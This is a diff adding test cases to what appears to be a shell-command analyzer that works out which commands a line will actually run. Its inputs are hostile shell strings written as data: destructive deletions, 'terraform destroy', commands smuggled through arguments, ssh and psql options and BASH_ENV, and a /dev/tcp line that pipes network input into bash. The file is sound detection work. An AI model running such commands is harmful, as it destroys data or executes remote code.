@@ -35,6 +35,106 @@ describe("a command line unfolds to what will really run", () => {
   ];
   for (const [text, expected] of cases) test(text, () => expect(runs(text)).toEqual(expected));
 
+  const variables: [string, string[]][] = [
+    ["x=/et; x+=c; rm $x", ["rm /etc"]],
+    ['a=(rm); a+=(-r x); "${a[@]}"', ["rm -r x"]],
+    ['a[0]=rm; a[1]=x; "${a[@]}"', ["rm x"]],
+    ["declare x=/et; declare x+=c; export x+=/a; rm $x", ["rm /etc/a"]],
+    ["f() { local d=a; d+=b; rm $d; }; f; rm $d", ["rm ab", "rm $d"]],
+    ["f() { d=a; }; f; rm $d", ["rm a"]],
+    ["printf -v x '%s-%s' a b; rm $x", ["rm a-b"]],
+    ["IFS=: read -r a b c <<< 'x:y:z:u'; rm $a $b $c", ["rm x y z:u"]],
+    ["IFS=, read -ra w <<< 'rm,-r,x'; \"${w[@]}\"", ["rm -r x"]],
+    ["mapfile -t l <<< $'a\nb'; rm \"${l[1]}\" ${#l[@]}", ["rm b 2"]],
+    ["declare -n r=x; x=a; rm $r; r=b; rm $x", ["rm a", "rm b"]],
+    ["declare -l x=ABC; rm $x; x=DEF; rm $x", ["rm abc", "rm def"]],
+    ["declare -A m=([a]=x [b]=y); rm ${m[b]} ${!m[@]}", ["rm y a b"]],
+    ["x=a1b2; rm ${x//[0-9]/} ${x/#a/c} ${x%[0-9]*} ${x##*b} ${x:1:2}", ["rm ab c1b2 a1b 2 1b"]],
+    ["x=aB; rm ${x^^} ${x,,} ${x@U} ${x^}", ["rm AB ab AB AB"]],
+    ["s=abc; o=; for ((i=${#s}-1;i>=0;i--)); do o+=${s:i:1}; done; rm $o", ["rm cba"]],
+    ["set -- rm a b; shift; rm $1 ${@:2} $#", ["rm a b 2"]],
+    ["((n=2, n*=3)); let n+=1; rm $n $((n%4))", ["rm 7 3"]],
+    [': "${x:=a}"; rm $x', [": a", "rm a"]],
+    ['ls -d /etc; rm "$_"', ["ls -d /etc", "rm /etc"]],
+    ["while read -r d; do rm $d; done <<< $'a\nb'", ["rm a", "rm b"]],
+    ["case $1 in a) d=x;; *) d=y;; esac; rm $d", ["rm y"]],
+    ['f() { "$@"; }; f f f rm x', ["rm x"]],
+    ["hash -p /bin/rm tidy; tidy x", ["rm x"]],
+    ["cd /a; cd /b; cd -; rm $PWD", ["rm /a"]],
+  ];
+  for (const [text, expected] of variables)
+    test(`variables: ${text}`, () => expect(runs(text)).toEqual(expected));
+
+  const started: [string, string[]][] = [
+    ["docker run --rm -v a:/b -e X amazon/aws-cli:2 s3 ls", ["aws s3 ls"]],
+    ["docker run --rm ubuntu:22.04 ls -la", ["ls -la"]],
+    ["docker -H x container run -it --entrypoint sh img -c 'rm x'", ["rm x"]],
+    ["podman run docker.io/hashicorp/terraform@sha256:0 plan", ["terraform plan"]],
+    ["docker compose -f a.yml run --rm terraform plan", ["terraform plan"]],
+    ["docker exec -it web ls", ["ls"]],
+    ["kubectl run x --image=alpine/helm:3 -- ls", ["helm ls"]],
+    ["kubectl -n a exec x -- ls", ["ls"]],
+    ["parallel -j2 rm {} ::: a b", ["rm a", "rm b"]],
+    ["parallel mv {1} {2}/{1} ::: a ::: x y", ["mv a x/a", "mv a y/a"]],
+    ["parallel ::: 'rm a' 'rm b'", ["rm a", "rm b"]],
+    ["echo d/a.txt | parallel rm {.} {/} {//}", ["echo d/a.txt", "rm d/a a.txt d"]],
+    ["ls d | xargs -I% rm d/%", ["ls d", "rm d/*"]],
+  ];
+  const found: [string, string[]][] = [
+    ["make -f - x <<< 'x: ; rm a'", ["rm a"]],
+    ["printf 'x:\\n\\t@rm a\\n' > Makefile && make", ["rm a"]],
+    ["just -f - <<< $'x:\\n  rm a'", ["rm a"]],
+    ["at now <<< 'rm a'", ["rm a"]],
+    ["tmux new -d 'cd src && rm a'", ["rm a"]],
+    ["script -qc 'rm a' /dev/null", ["rm a"]],
+    ["runuser -u root -- rm a", ["rm a"]],
+    ["sometool --opt 3 rm -r /a", ["rm -r /a"]],
+    ["nix run nixpkgs#terraform -- destroy", ["terraform destroy"]],
+    ["start-stop-daemon --exec /bin/rm -- -rf /a", ["rm -rf /a"]],
+    ["ssh -o ProxyCommand='rm a' h true", ["rm a"]],
+    ["ssh localhost 'rm a'", ["rm a"]],
+    ["psql -c \"copy t to program 'rm a'\"", ["rm a"]],
+    ["Rscript -e 'unlink(\"/a\", recursive=TRUE)'", ["rm -rf /a"]],
+    ['elixir -e \'System.cmd("rm", ["-rf", "/a"])\'', ["rm -rf /a"]],
+    ["python3 -m timeit \"import os; os.system('rm a')\"", ["rm a"]],
+    ["test -v 'x[$(rm a)]'", ["rm a"]],
+    ["BASH_ENV=<(echo 'rm a') bash -c true", ["rm a"]],
+    ["brew install git terraform", []],
+    ["svn rm --force a", []],
+    ["s5cmd rm 's3://b/*'", []],
+  ];
+  for (const [text, expected] of found)
+    test(`finds: ${text}`, () =>
+      expect(runs(text).filter((run) => /^(?:rm|terraform|git) /.test(run))).toEqual(expected));
+
+  for (const [text, expected] of started) test(`starts: ${text}`, () => expect(runs(text)).toEqual(expected));
+
+  test("what is opened on a descriptor is found there", () => {
+    expect(runs("bash /dev/fd/3 3<<< 'rm x'")).toEqual(["rm x"]);
+    expect(runs("exec 4<<< 'rm x'; sh <&4")).toEqual(["exec", "rm x"]);
+    expect(runs("{ sh <&5; } 5<<< 'rm x'")).toEqual(["rm x"]);
+    expect(runs("while read -ru 3 f; do rm $f; done 3<<< $'a\nb'")).toEqual(["rm a", "rm b"]);
+    const fed = unfold("exec 3<>/dev/tcp/a/80; bash <&3", place).runs.at(-1)?.stdin;
+    expect(fed?.from === "commands" && fed.commands[0]?.called).toBe("/dev/tcp/a/80");
+  });
+
+  test("errors sent away leave the output as it is", () => {
+    expect(runs("echo x 2>/dev/null | xargs rm")).toEqual(["echo x", "rm x"]);
+    expect(runs("echo x >/dev/null | xargs rm")).toEqual(["echo x", "rm"]);
+  });
+
+  test("what comes through a pipe keeps the place it was looked for in", () => {
+    const deleted = (text: string) =>
+      unfold(text, place)
+        .runs.flatMap(effectsOf)
+        .flatMap((effect) => (effect.do === "delete" ? [effect.path] : []));
+    expect(deleted('find src -name "*.a" | sort | while read -r f; do rm "$f"; done')).toEqual(["src/*.a"]);
+    expect(deleted("find ~ -name a -o -name b | xargs rm")).toEqual(["/home/u/a", "/home/u/b"]);
+    expect(deleted("ls /x | grep y | xargs rm -r")).toEqual(["/x/*.found"]);
+    expect(deleted("find . ! -name keep -path './dist/*' -exec rm {} +")).toEqual(["./dist/*"]);
+    expect(deleted('cat list | while read -r f; do rm -r "$f"; done')).toEqual([undefined]);
+  });
+
   test("words that are data stay data", () => {
     for (const text of [
       "echo 'rm -rf /'",
